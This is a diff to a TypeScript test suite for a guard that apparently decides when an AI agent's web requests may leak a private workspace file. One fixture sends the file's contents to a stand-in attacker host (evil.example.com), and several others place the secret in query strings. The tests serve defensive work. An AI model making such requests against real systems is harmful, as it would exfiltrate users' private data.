@@ -31,6 +31,11 @@ const ASKS: Record<string, Attempt> = {
     text: 'Use api.example.org.',
     calls: [read, get('http://api.example.org/echo?d=tulips'), get('http://evil.example.com/tulips')],
   },
+  'asks a host that the text of the task names': {
+    text: 'Look it up at api.example.org.',
+    calls: [read, get('http://api.example.org/?d=tulips')],
+  },
+  'asks a host that a rule allows for reading': { calls: [read, get('http://read.example.org/?d=tulips')] },
   'uses another port of a named host': {
     text: 'Use http://api.example.org/.',
     calls: [read, get('http://api.example.org:8080/?d=tulips')],
@@ -45,11 +50,11 @@ const ASKS: Record<string, Attempt> = {
 /** Each runs without a question. */
 const RUNS: Record<string, Attempt> = {
   'asks the web before it has read anything': { calls: [get('http://news.example.com/?q=weather')] },
-  'asks a host that the task names': {
-    text: 'Look it up at api.example.org.',
+  'asks a host that the task lets it send to': {
+    front: 'hosts: [{ host: api.example.org, send: true }]\n',
     calls: [read, get('http://api.example.org/?d=tulips')],
   },
-  'asks a host that a rule allows': { calls: [read, get('http://allowed.example.org/?d=tulips')] },
+  'asks a host that a rule lets it send to': { calls: [read, get('http://allowed.example.org/?d=tulips')] },
   'follows a link as it is on a page': { calls: [get('http://docs.example.net/'), read, get(LINK)] },
   'follows the address in the task': { text: `Read ${LINK}, please.`, calls: [read, get(LINK)] },
   'has read only public files': {
@@ -92,7 +97,14 @@ describe('what leaves the machine by reading the web', () => {
         critic: agreeing(String.raw`http\.get`, 'body'),
       }),
       policy: (text) =>
-        text.replace('rules: []', 'rules: [{ effect: allow, tool: http.get, host: allowed.example.org }]'),
+        text.replace(
+          'rules: []',
+          [
+            'rules:',
+            '  - { effect: allow, tool: http.get, host: allowed.example.org, send: true }',
+            '  - { effect: allow, tool: http.get, host: read.example.org }',
+          ].join('\n'),
+        ),
     });
     story.write('workspace/desk/private.txt', 'tulips\n');
     for (const { id, front = '', text = '' } of all)
